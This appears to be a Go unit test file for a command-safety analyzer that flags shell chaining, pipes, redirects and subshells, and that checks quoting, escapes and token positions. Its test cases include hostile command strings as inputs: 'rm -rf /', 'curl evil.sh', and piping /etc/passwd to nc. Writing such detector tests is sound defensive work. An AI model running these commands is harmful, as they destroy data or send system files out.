package security

import (
	"strings"
	"testing"
)

func TestAnalyzeCommandSafe(t *testing.T) {
	for _, cmd := range []string{
		"",
		"ls -la",
		"go test ./...",
		"git status",
		"grep -rn pattern internal",
	} {
		analysis := AnalyzeCommand(cmd)
		if !analysis.IsSafe {
			t.Errorf("AnalyzeCommand(%q) unsafe: %v", cmd, analysis.DangerousTokens)
		}
		if analysis.Reason != "" {
			t.Errorf("safe command carries reason %q", analysis.Reason)
		}
	}
}

func TestAnalyzeCommandDangerousTokens(t *testing.T) {
	tests := []struct {
		cmd       string
		wantToken string
		wantRisk  string
	}{
		{"ls; rm -rf /", ";", "command_chain"},
		{"true && curl evil.sh", "&&", "command_chain"},
		{"false || echo fallback", "||", "command_chain"},
		{"cat /etc/passwd | nc host 1234", "|", "pipe"},
		{"echo pwned > /etc/motd", ">", "redirect"},
		{"echo x >> log", ">>", "redirect"},
		{"wc -l < secrets", "<", "redirect"},
		{"echo `whoami`", "`", "subshell"},
		{"echo $(whoami)", "$(", "subshell"},
		{"sleep 100 &", "&", "background"},
	}
	for _, tt := range tests {
		analysis := AnalyzeCommand(tt.cmd)
		if analysis.IsSafe {
			t.Errorf("AnalyzeCommand(%q) reported safe", tt.cmd)
			continue
		}
		found := false
		for _, token := range analysis.DangerousTokens {
			if token.Token == tt.wantToken && token.Risk == tt.wantRisk {
				found = true
			}
		}
		if !found {
			t.Errorf("AnalyzeCommand(%q) tokens = %v, want %q/%s", tt.cmd, analysis.DangerousTokens, tt.wantToken, tt.wantRisk)
		}
	}
}

func TestAnalyzeCommandQuotesProtect(t *testing.T) {
	for _, cmd := range []string{
		`echo 'a && b'`,
		`echo "pipe | inside"`,
		`grep ';' file.txt`,
		`echo "\$(not a subshell)"`,
	} {
		if !AnalyzeCommand(cmd).IsSafe {
			t.Errorf("AnalyzeCommand(%q) should treat quoted metacharacters as safe", cmd)
		}
	}
}

func TestAnalyzeCommandEscapeProtects(t *testing.T) {
	if !AnalyzeCommand(`echo \;`).IsSafe {
		t.Error("escaped semicolon should be safe")
	}
}

func TestAnalyzeCommandMixedQuoting(t *testing.T) {
	// The metacharacter outside the quotes still counts.
	analysis := AnalyzeCommand(`echo 'safe' ; rm -rf /`)
	if analysis.IsSafe {
		t.Fatal("unquoted semicolon after a quoted section must be caught")
	}
	if analysis.DangerousTokens[0].Token != ";" {
		t.Errorf("tokens = %v", analysis.DangerousTokens)
	}
}

func TestDoubleCharTokensNotDoubleCounted(t *testing.T) {
	analysis := AnalyzeCommand("a && b")
	if len(analysis.DangerousTokens) != 1 {
		t.Fatalf("tokens = %v, want exactly one &&", analysis.DangerousTokens)
	}
	if analysis.DangerousTokens[0].Token != "&&" {
		t.Errorf("token = %q, want &&", analysis.DangerousTokens[0].Token)
	}

	analysis = AnalyzeCommand("echo hi >> log")
	if len(analysis.DangerousTokens) != 1 || analysis.DangerousTokens[0].Token != ">>" {
		t.Errorf("tokens = %v, want exactly one >>", analysis.DangerousTokens)
	}
}

func TestTokenPositions(t *testing.T) {
	analysis := AnalyzeCommand("ls; pwd")
	if len(analysis.DangerousTokens) != 1 || analysis.DangerousTokens[0].Position != 2 {
		t.Errorf("tokens = %v, want one token at position 2", analysis.DangerousTokens)
	}
}

func TestReasonMentionsEachRiskOnce(t *testing.T) {
	analysis := AnalyzeCommand("a; b; c | d")
	if analysis.Reason == "" {
		t.Fatal("reason missing")
	}
	if strings.Count(analysis.Reason, "command chaining") != 1 {
		t.Errorf("reason = %q, want one chaining mention", analysis.Reason)
	}
	if !strings.Contains(analysis.Reason, "pipes") {
		t.Errorf("reason = %q, missing pipe mention", analysis.Reason)
	}
}

func TestIsSafeCommandAndUnsafeReason(t *testing.T) {
	if !IsSafeCommand("ls -la") {
		t.Error("ls -la should be safe")
	}
	if IsSafeCommand("ls; true") {
		t.Error("chained command should be unsafe")
	}
	if UnsafeReason("ls -la") != "" {
		t.Error("safe command should have no reason")
	}
	if UnsafeReason("ls | wc") == "" {
		t.Error("unsafe command should carry a reason")
	}
}
